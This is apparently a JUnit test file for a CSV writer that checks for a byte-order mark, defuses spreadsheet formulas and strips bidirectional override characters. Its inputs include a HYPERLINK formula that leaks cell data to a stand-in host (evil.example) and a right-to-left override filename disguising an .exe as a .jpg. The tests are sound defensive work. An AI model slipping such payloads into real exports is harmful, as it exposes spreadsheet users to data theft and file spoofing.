package dev.lightup.site.twin;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class CsvDocumentTest {
    @Test
    void aTableBeginsWithAByteOrderMarkSoThatASpreadsheetReadsItsNames() {
        assertThat(new CsvDocument("name").row("Bäckerei Öl").text()).isEqualTo("\ufeffname\r\nBäckerei Öl\r\n");
    }

    @Test
    void aFormulaIsGuardedWhereverASpreadsheetCutsTheLine() {
        assertThat(new CsvDocument("reference", "name")
                .row("PO 7;=1+1;", "Acme;=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")")
                .text())
                .isEqualTo("\ufeffreference,name\r\nPO 7;'=1+1;,"
                        + "\"Acme;'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"x\"\")\"\r\n");
        assertThat(new CsvDocument("several").row(List.of("a", "=1")).text()).endsWith("a;' =1\r\n");
        assertThat(new CsvDocument("count", "none").row(-5L, Optional.empty()).text()).endsWith("-5,\r\n");
    }

    @Test
    void whatWouldTurnTheTextAroundItIsLeftOut() {
        assertThat(new CsvDocument("name").row("A\u202Egpj.exe\u202C").text()).endsWith("Agpj.exe\r\n");
    }
}
